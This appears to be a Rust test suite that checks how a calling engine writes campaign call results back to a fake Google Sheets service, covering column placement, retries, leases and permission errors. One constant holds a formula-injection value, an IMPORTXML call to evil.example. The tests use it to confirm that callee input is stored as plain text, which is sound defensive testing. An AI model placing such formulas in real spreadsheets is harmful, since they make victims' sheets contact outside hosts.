//! Google Sheets write-back through the fake: contacts imported from a sheet, calls
//! settled by the engine, the writer's passes driven by hand on an injected clock (no
//! sleeps), and what the fake's cells hold afterwards.
use chrono::{DateTime, Utc};
use parley_domain::call::CallStatus;
use parley_domain::call_result::{CallResult, ResultKind};
use parley_domain::campaign::{CampaignAction, CampaignSettings};
use parley_domain::import::ColumnMap;
use parley_domain::phone::Region;
use parley_domain::write_back::{SheetWriteBack, WriteBackColumn, WriteBackField};
use parley_engine::import::{RowWriter, Running};
use parley_engine::settings::Settings;
use parley_engine::sheet_writes::SheetWriter;
use parley_engine::telephony::{SimulatorUrls, Telephony};
use parley_engine::Engine;
use parley_sim::fakes::sheets::{FakeSheets, FakeSheetsConfig, Sheet, Spreadsheet};
use parley_sim::fakes::RunningFake;
use parley_store::{ClaimLimits, NewCall, NewCampaign, SheetOrigin, StatusChange, Store};
use serde_json::{json, Value};
use std::sync::atomic::{AtomicI64, Ordering};
use std::sync::Arc;

const ACCOUNT: &str = "writer@parley-test.iam.gserviceaccount.com";
const SPREADSHEET: &str = "1Leads-write-back";
const MIB: u64 = 1024 * 1024;
/// What a callee said that a spreadsheet would run, were it typed in.
const FORMULA: &str = "=IMPORTXML(\"https://evil.example\", \"//a\")";

/// How the spreadsheet is shared with the service account.
#[derive(Clone, Copy, PartialEq)]
enum Share {
    Editor,
    Viewer,
}

fn leads(share: Share) -> Spreadsheet {
    let (shared_with, editors) = match share {
        Share::Editor => (vec![], vec![ACCOUNT.to_owned()]),
        Share::Viewer => (vec![ACCOUNT.to_owned()], vec![]),
    };
    Spreadsheet {
        id: SPREADSHEET.into(),
        sheets: vec![Sheet {
            title: "Q4 leads".into(),
            rows: vec![
                vec![
                    json!("phone"),
                    json!("first_name"),
                    json!("notes"),
                    json!("Status"),
                ],
                vec![
                    json!("+14155550401"),
                    json!("Ann"),
                    json!("met at the fair"),
                ],
                vec![
                    json!("+14155550402"),
                    json!("Bob"),
                    json!("keep"),
                    json!("old"),
                ],
                vec![json!("not a contact"), json!(""), json!("a remark")],
            ],
        }],
        shared_with,
        editors,
        ..Spreadsheet::default()
    }
}

struct World {
    fake: RunningFake<FakeSheets>,
    engine: Engine,
    store: Store,
    campaign_id: i64,
    /// Milliseconds since the epoch, as the writer's clock reads it.
    clock: Arc<AtomicI64>,
    _dir: tempfile::TempDir,
}

impl World {
    async fn new(share: Share, api_key_only: bool) -> World {
        Self::with_attempts(share, api_key_only, 8).await
    }

    async fn with_attempts(share: Share, api_key_only: bool, attempts: u32) -> World {
        let fake = FakeSheets::spawn(FakeSheetsConfig::default(), "127.0.0.1:0".parse().unwrap())
            .await
            .unwrap();
        fake.state.add_spreadsheet(leads(share));
        let dir = tempfile::tempdir().unwrap();
        let mut settings = Settings::default();
        settings.google.sheets_api_base_url = fake.base_url.parse().unwrap();
        settings.google.sheets_write_attempts = attempts;
        if api_key_only {
            settings.google.api_key = Some(fake.state.config().api_key.clone().into());
        } else {
            let key = fake
                .state
                .create_service_account(ACCOUNT, &format!("{}/token", fake.base_url));
            let path = dir.path().join("key.json");
            std::fs::write(&path, key).unwrap();
            settings.google.service_account_key_file = Some(path);
        }
        let store = Store::open(&format!("sqlite://{}", dir.path().join("p.db").display()))
            .await
            .unwrap();
        let engine = Engine::new(
            Arc::new(settings.clone()),
            store.clone(),
            Telephony::sandbox(&settings, &SimulatorUrls::unreachable()).unwrap(),
        );
        let campaign_id = campaign(&store).await;
        let world = World {
            fake,
            engine,
            store,
            campaign_id,
            clock: Arc::new(AtomicI64::new(parley_domain::time::now_millis())),
            _dir: dir,
        };
        if !api_key_only {
            world.import().await;
        }
        world
    }

    /// Imports the sheet as the API does, into the campaign, and starts it.
    async fn import(&self) {
        let client = self.engine.sheets.client().unwrap();
        let values = client.values(SPREADSHEET, "'Q4 leads'", MIB).await.unwrap();
        let mut rows = values.table.rows.into_iter();
        let header = rows.next().unwrap();
        let columns = ColumnMap::from_headers(header.iter().map(String::as_str)).unwrap();
        let import = Running::start(&self.store, "sheets", None, Some(self.campaign_id), "t")
            .await
            .unwrap();
        let origin = SheetOrigin {
            spreadsheet_id: SPREADSHEET.into(),
            sheet_name: values.sheet,
            header_row: values.table.first_line,
        };
        RowWriter::new(&self.store, &import.record, columns, Region::default())
            .from_sheet(Some(origin))
            .write_table(values.table.first_line, rows)
            .await
            .unwrap();
        import.finish(None).await.unwrap();
        self.store
            .transition_campaign(self.campaign_id, CampaignAction::Start, "t", None)
            .await
            .unwrap();
    }

    fn writer(&self) -> SheetWriter {
        let clock = self.clock.clone();
        SheetWriter::new(self.engine.clone()).with_clock(Arc::new(move || {
            DateTime::<Utc>::from_timestamp_millis(clock.load(Ordering::SeqCst)).unwrap()
        }))
    }

    fn advance(&self, secs: i64) {
        self.clock.fetch_add(secs * 1000, Ordering::SeqCst);
    }

    /// Calls the contact on `phone` and settles the call through the engine, as the
    /// status callback does; the agent said it is interested with `interested`.
    async fn settle_call(&self, phone: &str, interested: &str) -> i64 {
        let now = parley_domain::time::now_millis();
        let claims = self
            .store
            .claim_due_contacts(
                self.campaign_id,
                "n",
                now,
                now + 60_000,
                10,
                ClaimLimits::campaign(10),
            )
            .await
            .unwrap();
        let claim = claims.iter().find(|c| c.phone == phone).unwrap();
        let mut tx = self.store.begin().await.unwrap();
        let call = tx
            .start_attempt(claim, "n", "2026-12-03", &new_call(phone))
            .await
            .unwrap()
            .unwrap();
        tx.commit().await.unwrap();
        self.store.recover_expired_claims(i64::MAX).await.unwrap();
        let result = CallResult::bounded(
            ResultKind::DataCollection,
            "interested",
            &json!(interested),
            None,
        )
        .unwrap();
        self.store
            .record_call_results(call.id, &[result])
            .await
            .unwrap();
        let ended = StatusChange {
            status: CallStatus::Completed,
            duration_seconds: Some(95),
            error_code: None,
            error_message: None,
        };
        self.store
            .advance_call_status(call.id, &ended)
            .await
            .unwrap();
        self.engine
            .settle_finished_call(call.id, true)
            .await
            .unwrap();
        // The writer's clock starts where the settlement left it.
        self.clock
            .fetch_max(parley_domain::time::now_millis(), Ordering::SeqCst);
        call.id
    }

    fn rows(&self) -> Vec<Vec<Value>> {
        let spreadsheet = self.fake.state.spreadsheet(SPREADSHEET).unwrap();
        spreadsheet.cells("Q4 leads").unwrap().to_vec()
    }
}

fn new_call(to: &str) -> NewCall {
    NewCall {
        to: to.into(),
        from: "+15005550006".into(),
        dynamic_variables: json!({}),
        overrides: json!({}),
        ..Default::default()
    }
}

async fn campaign(store: &Store) -> i64 {
    let mut interested = WriteBackColumn::of(WriteBackField::DataCollection);
    interested.name = Some("interested".into());
    let settings = CampaignSettings {
        sheet_write_back: SheetWriteBack {
            enabled: true,
            columns: vec![
                WriteBackColumn::of(WriteBackField::Status),
                WriteBackColumn::of(WriteBackField::Outcome),
                interested,
            ],
        },
        // The contacts these tests write back for carry no consent records.
        required_consent: parley_domain::consent::ConsentType::None,
        ..Default::default()
    };
    store
        .create_campaign(
            &NewCampaign {
                name: "write back".into(),
                description: None,
                settings,
            },
            "t",
        )
        .await
        .unwrap()
        .id
}

fn text(row: &[Value]) -> Vec<&str> {
    row.iter().map(|c| c.as_str().unwrap_or("?")).collect()
}

#[tokio::test]
async fn the_writer_fills_only_its_columns_and_creates_the_missing_headers() {
    let w = World::new(Share::Editor, false).await;
    let before = w.rows();
    let call = w.settle_call("+14155550401", FORMULA).await;
    let outcome = w.store.get_call(call).await.unwrap().outcome.unwrap();

    assert_eq!(w.writer().write_due().await.unwrap(), 1);
    let rows = w.rows();
    assert_eq!(
        text(&rows[0]),
        vec![
            "phone",
            "first_name",
            "notes",
            "Status",
            "outcome",
            "interested"
        ],
        "`Status` matched by name; the others created after it"
    );
    assert_eq!(
        text(&rows[1]),
        vec![
            "+14155550401",
            "Ann",
            "met at the fair",
            "completed",
            outcome.as_str(),
            FORMULA
        ],
        "what the callee said is text, never a formula"
    );
    assert_eq!(rows[2], before[2], "a contact not called is untouched");
    assert_eq!(rows[3], before[3], "a row that is no contact is untouched");
    let updates = w.fake.state.batch_updates();
    assert_eq!(updates.len(), 1, "one request for the spreadsheet");
    assert_eq!(updates[0].value_input_option, "RAW");
    assert_eq!(
        updates[0].ranges,
        vec![
            "'Q4 leads'!D2:D2",
            "'Q4 leads'!E1:E1",
            "'Q4 leads'!E2:E2",
            "'Q4 leads'!F1:F1",
            "'Q4 leads'!F2:F2"
        ],
        "only the chosen columns of the called row, and the created headers"
    );
    let counts = w.store.sheet_write_counts(w.campaign_id).await.unwrap();
    assert_eq!((counts.pending, counts.written), (0, 1));
    // Read back through values.get, as a sandbox campaign's sheet shows it.
    let client = w.engine.sheets.client().unwrap();
    let values = client
        .values(SPREADSHEET, "'Q4 leads'!D2:F2", MIB)
        .await
        .unwrap();
    assert_eq!(values.table.rows[0][0], "completed");
    w.fake.stop().await;
}

#[tokio::test]
async fn a_429_is_retried_after_a_backoff_and_then_written() {
    let w = World::new(Share::Editor, false).await;
    w.settle_call("+14155550402", "no").await;
    w.fake.state.exhaust_write_quota(1);
    let writer = w.writer();

    assert_eq!(writer.write_due().await.unwrap(), 1);
    let counts = w.store.sheet_write_counts(w.campaign_id).await.unwrap();
    assert_eq!((counts.pending, counts.retrying), (1, 1));
    assert!(
        counts.last_error.as_deref().unwrap().contains("quota"),
        "{counts:?}"
    );
    assert_eq!(text(&w.rows()[2])[3], "old", "nothing written yet");

    // Not before its backoff (30 s, up to 10% more)...
    w.advance(29);
    assert_eq!(writer.write_due().await.unwrap(), 0);
    // ...and written once it is over.
    w.advance(5);
    assert_eq!(writer.write_due().await.unwrap(), 1);
    assert_eq!(text(&w.rows()[2])[3], "completed");
    assert_eq!(w.fake.state.write_requests(), 2);
    let counts = w.store.sheet_write_counts(w.campaign_id).await.unwrap();
    assert_eq!(
        (counts.pending, counts.written, counts.last_error),
        (0, 1, None)
    );
    w.fake.stop().await;
}

#[tokio::test]
async fn a_row_is_given_up_after_its_attempts_with_the_reason_kept() {
    let w = World::with_attempts(Share::Editor, false, 2).await;
    w.settle_call("+14155550401", "yes").await;
    w.fake.state.exhaust_write_quota(5);
    let writer = w.writer();
    assert_eq!(writer.write_due().await.unwrap(), 1);
    w.advance(60);
    assert_eq!(
        writer.write_due().await.unwrap(),
        1,
        "the second and last attempt"
    );
    w.advance(3600);
    assert_eq!(writer.write_due().await.unwrap(), 0, "nothing left to try");
    let counts = w.store.sheet_write_counts(w.campaign_id).await.unwrap();
    assert_eq!((counts.pending, counts.failed), (0, 1));
    assert!(counts.last_error.unwrap().contains("quota"));
    assert_eq!(w.fake.state.write_requests(), 2);
    w.fake.stop().await;
}

#[tokio::test]
async fn a_write_claimed_by_a_node_that_stopped_is_written_after_a_restart() {
    let w = World::new(Share::Editor, false).await;
    w.settle_call("+14155550401", "yes").await;
    // A node claims the write and stops before it reports back.
    let now = w.clock.load(Ordering::SeqCst);
    let lost = w
        .store
        .claim_due_sheet_writes("stopped-node", now, now + 90_000, 10)
        .await
        .unwrap();
    assert_eq!(lost.len(), 1);

    // The restarted process's writer waits for the lease, then writes.
    let restarted = w.writer();
    assert_eq!(restarted.write_due().await.unwrap(), 0);
    w.advance(91);
    assert_eq!(restarted.write_due().await.unwrap(), 1);
    assert_eq!(text(&w.rows()[1])[3], "completed");
    w.fake.stop().await;
}

#[tokio::test]
async fn a_sheet_shared_for_viewing_only_gives_a_clear_error_and_no_cell() {
    let w = World::new(Share::Viewer, false).await;
    let before = w.rows();
    w.settle_call("+14155550401", "yes").await;
    assert_eq!(w.writer().write_due().await.unwrap(), 1);
    let counts = w.store.sheet_write_counts(w.campaign_id).await.unwrap();
    assert_eq!((counts.pending, counts.failed), (0, 1), "given up at once");
    let error = counts.last_error.unwrap();
    assert!(
        error.contains(ACCOUNT) && error.contains("as Editor"),
        "{error}"
    );
    assert_eq!(w.rows(), before);
    w.fake.stop().await;
}

#[tokio::test]
async fn an_api_key_cannot_write_and_says_so_before_any_request() {
    let w = World::new(Share::Editor, true).await;
    let problem = w.engine.sheet_write_problem().unwrap();
    assert!(
        problem.contains("API key") && problem.contains("service_account_key_file"),
        "{problem}"
    );
    assert_eq!(w.writer().write_due().await.unwrap(), 0);
    assert_eq!(w.fake.state.write_requests(), 0);
    w.fake.stop().await;
}

#[tokio::test]
async fn campaigns_take_write_back_settings_and_show_their_queue() {
    use crate::harness::{error_code, TestApp};
    use reqwest::Method;
    let app = TestApp::start().await;
    let columns = json!([
        {"field": "status"},
        {"field": "data_collection", "name": "interested", "header": "Interested?"},
    ]);
    let (status, campaign) = app
        .call(
            Method::POST,
            "/api/v1/campaigns",
            Some(json!({"name": "Back", "settings": {"sheet_write_back": {"enabled": true, "columns": columns}}})),
        )
        .await;
    assert_eq!(status, 201, "{campaign}");
    assert_eq!(
        campaign["settings"]["sheet_write_back"]["columns"][1]["header"],
        "Interested?"
    );
    let id = campaign["id"].as_i64().unwrap();

    // A data-collection column needs its item's name.
    let (status, body) = app
        .call(
            Method::PATCH,
            &format!("/api/v1/campaigns/{id}"),
            Some(json!({"settings": {"sheet_write_back": {"enabled": true, "columns": [{"field": "data_collection"}]}}})),
        )
        .await;
    assert_eq!(status, 422, "{body}");
    assert_eq!(error_code(&body), "validation_failed");

    let (status, queue) = app
        .call(
            Method::GET,
            &format!("/api/v1/campaigns/{id}/sheet-writes"),
            None,
        )
        .await;
    assert_eq!(status, 200, "{queue}");
    assert_eq!(
        (queue["enabled"].as_bool(), queue["pending"].as_i64()),
        (Some(true), Some(0))
    );
    // The sandbox writes as a service account its spreadsheet is shared with.
    assert_eq!(queue["configuration_error"], Value::Null, "{queue}");
    let (status, retried) = app
        .call(
            Method::POST,
            &format!("/api/v1/campaigns/{id}/sheet-writes/retry"),
            None,
        )
        .await;
    assert_eq!((status, retried["requeued"].as_u64()), (200, Some(0)));
    let (status, _) = app
        .call(Method::GET, "/api/v1/campaigns/999999/sheet-writes", None)
        .await;
    assert_eq!(status, 404);
}

#[tokio::test]
async fn a_sandbox_campaign_imported_from_the_fake_sheet_writes_its_results_back() {
    use crate::calls_e2e::sandbox;
    use crate::campaign_dialer::wait_until_completed;
    use parley_engine::events::LiveEvent;
    use parley_sim::fakes::sheets::SANDBOX_SPREADSHEET_ID;
    use reqwest::Method;
    let app = sandbox().await;
    let fake = app.sandbox_sheets();
    let retry = json!({"max_attempts": 1, "delay_minutes": 0});
    let settings = json!({
        "caller_ids": ["+15005550006"],
        "calls_per_second": 10,
        "calling_window": {"start": "00:00", "end": "23:59",
                           "days": ["mon", "tue", "wed", "thu", "fri", "sat", "sun"]},
        "allow_outside_legal_hours": true,
        "retry": {"no_answer": retry, "busy": retry, "failed": retry, "voicemail": retry,
                  "short_call": retry, "unsuccessful": retry},
        "sheet_write_back": {"enabled": true, "columns": [
            {"field": "status", "header": "Call status"}, {"field": "outcome"}, {"field": "summary"}]},
    });
    let (status, campaign) = app
        .call(
            Method::POST,
            "/api/v1/campaigns",
            Some(json!({"name": "from the sheet", "settings": settings})),
        )
        .await;
    assert_eq!(status, 201, "{campaign}");
    let id = campaign["id"].as_i64().unwrap();
    // Rows 2 to 4 of the sandbox sheet, with their consent columns (G to I).
    let (status, report) = app
        .call(
            Method::POST,
            "/api/v1/contacts/import/sheets",
            Some(json!({"spreadsheet": SANDBOX_SPREADSHEET_ID, "range": "Sheet1!A1:I4", "campaign_id": id})),
        )
        .await;
    assert_eq!(status, 200, "{report}");
    let mut events = app.engine.events.subscribe();
    let (status, _) = app
        .call(Method::POST, &format!("/api/v1/campaigns/{id}/start"), None)
        .await;
    assert_eq!(status, 200);
    wait_until_completed(&app, id).await;
    // The writer runs in the background: wait for its report of each pass.
    let queue = tokio::time::timeout(std::time::Duration::from_secs(60), async {
        loop {
            let (_, queue) = app
                .call(
                    Method::GET,
                    &format!("/api/v1/campaigns/{id}/sheet-writes"),
                    None,
                )
                .await;
            if queue["pending"] == 0 && queue["written"].as_i64() == Some(3) {
                return queue;
            }
            loop {
                if let Ok(LiveEvent::SheetWritesChanged { campaign_id }) = events.recv().await {
                    if campaign_id == id {
                        break;
                    }
                }
            }
        }
    })
    .await
    .expect("every row is written back");
    assert_eq!(queue["failed"], 0, "{queue}");
    let sheet = fake.spreadsheet(SANDBOX_SPREADSHEET_ID).unwrap();
    let rows = sheet.cells("Sheet1").unwrap();
    let original = parley_sim::fakes::sheets::sandbox_spreadsheet().sheets[0]
        .rows
        .clone();
    // The new headers follow the sheet's own, whatever they are.
    let base = original[0].len();
    assert_eq!(
        text(&rows[0])[base..],
        ["Call status", "outcome", "summary"],
        "created after the last header"
    );
    assert_eq!(
        rows[0][..base],
        original[0][..],
        "the sheet's headers untouched"
    );
    assert_eq!(text(&rows[1])[base], "completed");
    assert!(!text(&rows[1])[base + 1].is_empty(), "the call's outcome");
    assert!(!text(&rows[1])[base + 2].is_empty(), "the agent's summary");
    assert_eq!(
        rows[1][..base],
        original[1][..],
        "the contact's own cells untouched"
    );
    assert_eq!(rows[4], original[4], "row 5 was not imported: untouched");
    app.stop().await;
}
